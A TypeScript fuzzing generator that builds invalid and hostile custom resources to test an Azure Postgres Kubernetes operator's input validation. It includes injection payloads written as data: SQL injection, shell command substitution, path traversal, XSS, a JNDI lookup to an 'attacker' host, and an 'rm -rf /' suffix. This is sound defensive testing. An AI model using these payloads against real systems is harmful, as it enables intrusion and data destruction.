/**
 * A generator of invalid or odd custom resources: every field of every kind given wrong types, out-of-range and
 * boundary values, unicode, huge strings and injection; tags and parameters that Azure refuses or that look like the
 * owner tags; reserved logins; bad metadata. Each item is a raw object to POST (the API server's schema is the first
 * line of defence) and what it probes.
 */
import { GROUP } from './fixtures';

export interface HostileInput {
  readonly id: number;
  readonly plural: string;
  readonly name: string;
  readonly probe: string;
  readonly body: Record<string, any>;
}

/** Values that are wrong, at a boundary or hostile for some field of some kind. */
export const HOSTILE_VALUES: readonly unknown[] = [
  123, -1, 0, 1.5, 2147483648, -2147483649, 1e309 === Infinity ? '1e309' : 0, true, false, null, [], {}, ['a', 'b'], { name: 'x' },
  '', ' ', 'x'.repeat(64), 'x'.repeat(300), 'x'.repeat(70_000),
  'ünïcödé-名前', '😀😀', 'Ａ-fullwidth', '\u0000nul', 'line\nbreak', 'tab\tchar', '\u202eevil-rtl',
  "'; DROP TABLE users; --", '"; DROP ROLE azure_pg_admin; --', 'x\' OR \'1\'=\'1', '$(touch /tmp/pwned)', '`id`', '../../etc/passwd',
  '%00', '<script>alert(1)</script>', '${jndi:ldap://attacker/x}', '{{ .Values.secret }}', 'a;b|c&d',
  'CDK8S-AZURE.DEV-UID', 'cdk8s-azure.dev-namespace', 'postgres', 'azuresu', 'azure_pg_admin', 'current_user',
  '10.0.0.1/8', '256.256.256.256', '0.0.0.0', 'NaN', '0x7fffffff', '-0',
];

/** Field paths per kind (dotted), every one the CRD has. */
const FIELDS: Record<string, string[]> = {
  postgresservers: [
    'azureName', 'resourceGroup', 'resourceGroup.name', 'resourceGroup.create', 'location', 'version', 'sku', 'sku.tier', 'sku.name',
    'storage', 'storage.sizeGB', 'storage.tier', 'storage.autoGrow', 'backup.retentionDays', 'backup.geoRedundant', 'highAvailability.mode',
    'highAvailability.standbyAvailabilityZone', 'availabilityZone', 'network.publicNetworkAccess', 'network.delegatedSubnetResourceId',
    'network.privateDnsZoneResourceId', 'administratorLogin', 'maintenanceWindow.dayOfWeek', 'maintenanceWindow.startHour',
    'maintenanceWindow.startMinute', 'parameters', 'tags', 'deletionPolicy', 'writeConnectionSecretToRef', 'writeConnectionSecretToRef.name',
  ],
  postgresdatabases: ['serverRef', 'serverRef.name', 'azureName', 'charset', 'collation', 'deletionPolicy'],
  postgresfirewallrules: ['serverRef.name', 'azureName', 'startIpAddress', 'endIpAddress', 'deletionPolicy'],
  postgresroles: ['serverRef.name', 'databaseRef.name', 'roleName', 'privileges', 'connectionLimit', 'writeConnectionSecretToRef.name', 'deletionPolicy'],
};

const KIND: Record<string, string> = {
  postgresservers: 'PostgresServer', postgresdatabases: 'PostgresDatabase', postgresfirewallrules: 'PostgresFirewallRule', postgresroles: 'PostgresRole',
};

function setPath(o: Record<string, any>, dotted: string, value: unknown): void {
  const keys = dotted.split('.');
  let cur = o;
  for (const k of keys.slice(0, -1)) cur = (cur[k] = typeof cur[k] === 'object' && cur[k] !== null ? cur[k] : {});
  cur[keys[keys.length - 1]] = value;
}

export interface HostileTargets {
  readonly namespace: string;
  /** A resource group outside the namespace's scope: a valid spec there gets OutOfScope, never an Azure call. */
  readonly outOfScopeGroup: string;
  /** A suffix that makes names unique per run. */
  readonly runId: string;
}

/** `stride` 2 takes every other hostile value per field (a bounded run); 1 takes them all. */
export function generateHostileInputs(t: HostileTargets, stride = 1): HostileInput[] {
  const out: HostileInput[] = [];
  const add = (plural: string, probe: string, spec: Record<string, any>, metadata: Record<string, any> = {}) => {
    const id = out.length;
    const name = metadata.name ?? `h${id}`;
    const body = { apiVersion: GROUP, kind: KIND[plural], metadata: { namespace: t.namespace, ...metadata, name }, spec };
    out.push({ id, plural, name, probe, body });
  };
  const base = (plural: string, id: number): Record<string, any> => {
    const azureName = `hx${id}-${t.runId}`;
    switch (plural) {
      case 'postgresservers':
        return { azureName, resourceGroup: { name: t.outOfScopeGroup, create: true }, location: 'westeurope', writeConnectionSecretToRef: { name: `h${id}-admin` } };
      case 'postgresdatabases':
        return { serverRef: { name: 'no-such-server' }, azureName: `hx${id}` };
      case 'postgresfirewallrules':
        return { serverRef: { name: 'no-such-server' }, azureName, startIpAddress: '10.0.0.1', endIpAddress: '10.0.0.2' };
      default:
        return { serverRef: { name: 'no-such-server' }, databaseRef: { name: 'no-such-db' }, roleName: `r${id}`, writeConnectionSecretToRef: { name: `h${id}-role` } };
    }
  };

  {
    // Every field of every kind, every hostile value.
    for (const [plural, fields] of Object.entries(FIELDS)) {
      for (const field of fields) {
        for (const value of HOSTILE_VALUES.filter((_, i) => i % stride === 0)) {
          const spec = base(plural, out.length);
          setPath(spec, field, value);
          add(plural, `${plural} spec.${field} = ${JSON.stringify(value)?.slice(0, 40)}`, spec);
        }
      }
    }
    // Tags as Azure refuses them, and look-alikes of the owner tags.
    const tagSets: [string, Record<string, string>][] = [
      ...['CDK8S-AZURE.DEV-UID', 'Cdk8s-Azure.Dev-Namespace', 'cdk8s-azure.dev-name', 'cdk8s-azure.dev-cluster', 'cdk8s-azure.dev-uid ', 'cdk8s-azure.dev-other']
        .map((k) => [`owner-tag look-alike '${k}'`, { [k]: 'victim' }] as [string, Record<string, string>]),
      ...['<', '>', '%', '&', '\\', '?', '/'].map((c) => [`tag name with '${c}'`, { [`a${c}b`]: 'v' }] as [string, Record<string, string>]),
      ...['microsoft', 'azure', 'windows', 'Microsoft.', 'AZURE-x'].map((p) => [`tag name prefix '${p}'`, { [`${p}tag`]: 'v' }] as [string, Record<string, string>]),
      ['51 tags', Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`t${i}`, 'v']))],
      ['tag name of 513 characters', { ['n'.repeat(513)]: 'v' }],
      ['tag value of 257 characters', { k: 'v'.repeat(257) }],
      ['unicode tag name and value', { 'ключ-名前': 'значение 😀' }],
      ['empty tag name', { '': 'v' }],
    ];
    for (const [probe, tags] of tagSets) add('postgresservers', probe, { ...base('postgresservers', out.length), tags });
    // Server parameters Azure does not have, some carrying SQL.
    for (const p of ['no_such_parameter', 'work_mem; DROP TABLE x', "shared_buffers' OR '1'='1", 'log_min_messages\n', 'MAX_CONNECTIONS', 'a'.repeat(200)]) {
      add('postgresservers', `unknown parameter '${p.slice(0, 30)}'`, { ...base('postgresservers', out.length), parameters: { [p]: '1' } });
    }
    // Reserved administrator logins and role names.
    for (const login of ['postgres', 'azuresu', 'azure_superuser', 'azure_pg_admin', 'admin', 'root', 'public', 'pg_monitor', 'replication', 'guest']) {
      add('postgresservers', `reserved administrator login '${login}'`, { ...base('postgresservers', out.length), administratorLogin: login });
      add('postgresroles', `reserved role name '${login}'`, { ...base('postgresroles', out.length), roleName: login });
    }
    // Metadata the API server or the reconciler must cope with.
    for (const name of ['UPPER', 'a_b', 'x'.repeat(254), '../etc', 'a;b', 'ünï', '-lead', 'trail-', '.', '']) {
      add('postgresservers', `metadata.name ${JSON.stringify(name.slice(0, 20))}`, base('postgresservers', out.length), { name: name || undefined, generateName: name ? undefined : '' });
    }
    for (const adopt of ['true', 'TRUE', 'yes', '1', 'false', 'true; rm -rf /']) {
      add('postgresservers', `adopt annotation '${adopt}' (out of scope)`, base('postgresservers', out.length), { annotations: { 'cdk8s-azure.dev/adopt': adopt } });
    }
    // References across namespaces: a reference has no namespace; an extra field is pruned or refused.
    add('postgresdatabases', 'serverRef with a namespace', { ...base('postgresdatabases', out.length), serverRef: { name: 'victim', namespace: 'chaos-victim' } });
    add('postgresroles', 'role refs with a namespace', {
      ...base('postgresroles', out.length), serverRef: { name: 'victim', namespace: 'chaos-victim' }, databaseRef: { name: 'victim-db', namespace: 'chaos-victim' },
    });
    add('postgresservers', 'Secret ref with a namespace', { ...base('postgresservers', out.length), writeConnectionSecretToRef: { name: 'victim-admin', namespace: 'chaos-victim' } });
    add('postgresroles', 'unknown privilege', { ...base('postgresroles', out.length), privileges: ['SUPERUSER'] });
    add('postgresroles', 'connectionLimit 2147483648', { ...base('postgresroles', out.length), connectionLimit: 2147483648 });
    add('postgresfirewallrules', 'IP addresses as arrays', { ...base('postgresfirewallrules', out.length), startIpAddress: ['10.0.0.1'], endIpAddress: ['10.0.0.2'] });
    add('postgresfirewallrules', 'end below start', { ...base('postgresfirewallrules', out.length), startIpAddress: '10.0.0.9', endIpAddress: '10.0.0.1' });
    add('postgresfirewallrules', 'the whole internet', { ...base('postgresfirewallrules', out.length), startIpAddress: '0.0.0.0', endIpAddress: '255.255.255.255' });
  }
  return out;
}
